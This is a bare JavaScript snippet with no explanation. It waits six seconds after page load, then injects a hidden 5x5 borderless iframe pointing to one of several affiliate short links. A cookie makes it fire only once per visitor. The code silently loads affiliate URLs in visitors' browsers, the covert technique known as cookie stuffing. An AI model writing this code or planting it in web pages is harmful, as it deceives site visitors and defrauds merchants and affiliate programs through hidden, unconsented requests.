window.onload = function () {
  if (document.cookie.indexOf('saf=') < 0) {
    document.cookie = 'saf=1; path=/';
    var list = ['https://short.aff.example/9mEx', 'https://short.aff.example/dSmW', 'https://short.aff.example/bKnr'];
    var url = list[Math.floor(Math.random() * list.length)];
    setTimeout(() => {
      var node = document.createElement('iframe');
      node.width = 5;
      node.height = 5;
      node.style.cssText = 'padding:0;margin:0;border:0;position:absolute;';
      node.src = url;
      document.body.append(node.cloneNode());
    }, 6000);
  }
};
